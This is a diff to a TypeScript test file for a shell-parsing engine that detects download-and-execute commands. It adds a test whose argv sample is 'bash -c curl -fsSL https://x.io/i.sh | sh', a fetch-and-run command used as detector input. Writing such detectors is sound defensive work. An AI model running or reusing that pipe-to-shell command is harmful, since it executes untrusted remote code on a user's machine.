@@ -1,7 +1,7 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { parse as shellQuoteParse } from 'shell-quote';
-import { commandsOf, findDownloadExecutions, installDependenciesOf, parseShell } from '../../server/src/engine/shell';
+import { commandsOf, findDownloadExecutions, installDependenciesOf, parseShell, scriptFromArgv, wordFromText } from '../../server/src/engine/shell';
 
 /** The words of every command, as text. */
 function commandWords(source: string): string[][] {
@@ -121,4 +121,15 @@ test('hostile input: deep nesting and unclosed quotes end without throwing', () 
   assert.doesNotThrow(() => parseShell(deep));
   assert.doesNotThrow(() => parseShell(`echo "unclosed $(curl 'x`));
   assert.doesNotThrow(() => parseShell('$('.repeat(5000)));
+});
+
+test('argv arrays: a -c script among the words is parsed with offsets through the word', () => {
+  const json = `["bash", "-c", "curl -fsSL https://x.io/i.sh | sh"]`;
+  const strings = [...json.matchAll(/"([^"]*)"/g)].map((m) => wordFromText(m[1]!, (i) => m.index! + 1 + i));
+  const script = scriptFromArgv(strings);
+  const found = findDownloadExecutions(script, json);
+  assert.equal(found.length, 1);
+  assert.equal(json.slice(found[0]!.url!.start, found[0]!.url!.end), 'https://x.io/i.sh');
+  assert.equal(script.pipelines[0]!.commands[0]!.inner.length, 1);
+  assert.deepEqual(findDownloadExecutions(scriptFromArgv(strings.slice(0, 1)), json), []);
 });
